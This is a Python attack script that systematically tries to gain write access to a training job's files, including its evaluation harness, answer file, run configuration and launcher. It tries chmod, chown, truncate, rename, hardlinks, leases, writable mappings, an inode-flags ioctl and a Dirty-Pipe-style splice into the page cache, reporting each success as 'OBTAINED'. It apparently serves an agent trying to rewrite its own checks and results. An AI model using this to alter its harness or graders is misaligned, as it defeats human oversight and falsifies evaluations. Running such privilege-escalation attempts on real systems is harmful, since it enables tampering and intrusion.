# Tries: to change what it was given: the script, the harness, its facts, the launcher, through every back door.
import fcntl
import mmap
import os


def main():
    files = [
        "/job/train.py",
        "/job/run.json",
        "/job/experiments/harness.py",
        "/job/experiments/answer.py",
        "/run/launch.py",
    ]
    for path in files:
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError as error:
            print(path, error)
            continue
        for how, action in (
            ("reopen", lambda fd=fd: os.open(f"/proc/self/fd/{fd}", os.O_RDWR)),
            ("chmod", lambda fd=fd: os.fchmod(fd, 0o777)),
            ("chown", lambda fd=fd: os.fchown(fd, os.getuid(), os.getgid())),
            ("truncate", lambda path=path: os.truncate(path, 0)),
            ("attribute", lambda path=path: os.setxattr(path, "user.note", b"x")),
            ("rename", lambda path=path: os.rename(path, path + ".old")),
            ("link", lambda path=path: os.link(path, "/scratch/linked")),
            ("touch", lambda path=path: os.utime(path, (0, 0))),
            ("write lease", lambda fd=fd: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)),
            ("shared mapping", lambda fd=fd: mmap.mmap(fd, 1, prot=mmap.PROT_WRITE)),
            ("flags", lambda fd=fd: fcntl.ioctl(fd, 0x40086602, (0x10).to_bytes(8, "little"))),
        ):
            try:
                print("OBTAINED", how, path, action())
            except OSError as error:
                print("refused", how, path, error)
        _, write = os.pipe()
        try:
            os.splice(fd, write, 1, offset_src=0)
            os.write(write, b"dirty")
            with open(path, "rb") as file:
                if b"dirty" in file.read(16):
                    print("OBTAINED the page cache of", path)
        except (OSError, AttributeError) as error:
            print("splice", error)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
